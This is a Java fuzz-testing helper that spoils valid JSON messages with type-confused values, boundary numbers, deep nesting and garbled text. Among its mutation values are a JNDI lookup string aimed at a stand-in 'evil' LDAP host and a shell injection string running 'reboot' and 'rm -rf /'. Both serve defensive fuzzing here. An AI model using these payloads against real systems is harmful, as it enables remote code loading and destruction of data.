package org.tunefarm.coordinator.fuzz;

import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;

/** Seeded ways to spoil a valid JSON message: values that confuse types, sit on boundaries, or nest deep. */
final class Mutations {

    private Mutations() {}

    /** Values that are wrong almost anywhere: type confusion and boundary numbers. */
    static Object confusing(SplittableRandom r) {
        return switch (r.nextInt(20)) {
            case 0 -> null;
            case 1 -> true;
            case 2 -> -1;
            case 3 -> 0;
            case 4 -> Integer.MAX_VALUE;
            case 5 -> Long.MIN_VALUE;
            case 6 -> Long.MAX_VALUE;
            case 7 -> 1e308;
            case 8 -> -4.9e-324;
            case 9 -> "";
            case 10 -> "x".repeat(1 + r.nextInt(20_000));
            case 11 -> new JsonArray();
            case 12 -> new JsonObject();
            case 13 -> deepArray(10 + r.nextInt(500));
            case 14 -> "NaN";
            case 15 -> "-Infinity";
            case 16 -> "${jndi:ldap://evil/a}";
            case 17 -> "`reboot`; $(rm -rf /)";
            case 18 -> new JsonArray().add(1).add("two").addNull();
            default -> "\u0000\uFFFF\uD800";
        };
    }

    static JsonArray deepArray(int depth) {
        JsonArray root = new JsonArray();
        JsonArray a = root;
        for (int i = 0; i < depth; i++) {
            JsonArray next = new JsonArray();
            a.add(next);
            a = next;
        }
        return root;
    }

    /** Every object in the tree with a key, as (object, key) pairs: where a mutation can land. */
    static List<Object[]> slots(JsonObject o) {
        List<Object[]> out = new ArrayList<>();
        collect(o, out);
        return out;
    }

    private static void collect(Object node, List<Object[]> out) {
        if (node instanceof JsonObject o) {
            for (String k : new ArrayList<>(o.fieldNames())) {
                out.add(new Object[] {o, k});
                collect(o.getValue(k), out);
            }
        } else if (node instanceof JsonArray a) {
            for (Object v : a) collect(v, out);
        }
    }

    /** One random spoiling of a copy of {@code valid}: a value replaced, a key removed, or an unknown key added. */
    static JsonObject spoil(JsonObject valid, SplittableRandom r) {
        JsonObject copy = valid.copy();
        List<Object[]> slots = slots(copy);
        Object[] slot = slots.get(r.nextInt(slots.size()));
        JsonObject owner = (JsonObject) slot[0];
        String key = (String) slot[1];
        switch (r.nextInt(4)) {
            case 0 -> owner.remove(key);
            case 1 -> owner.put("unexpected" + r.nextInt(100), confusing(r));
            default -> owner.put(key, confusing(r));
        }
        return copy;
    }

    /** Text with a byte-level flaw: truncated, a character deleted, or garbage inserted. */
    static String garble(String text, SplittableRandom r) {
        if (text.isEmpty()) return "\u0001";
        int at = r.nextInt(text.length());
        return switch (r.nextInt(4)) {
            case 0 -> text.substring(0, at);
            case 1 -> text.substring(0, at) + text.substring(at + 1);
            case 2 -> text.substring(0, at) + "\"{[" .charAt(r.nextInt(3)) + text.substring(at);
            default -> text.substring(0, at) + randomText(r, 1 + r.nextInt(8)) + text.substring(at);
        };
    }

    static String randomText(SplittableRandom r, int n) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < n; i++) b.append((char) r.nextInt(1, 0x3000));
        return b.toString();
    }

    static byte[] randomBytes(SplittableRandom r, int n) {
        byte[] b = new byte[n];
        for (int i = 0; i < n; i++) b[i] = (byte) r.nextInt(256);
        return b;
    }
}
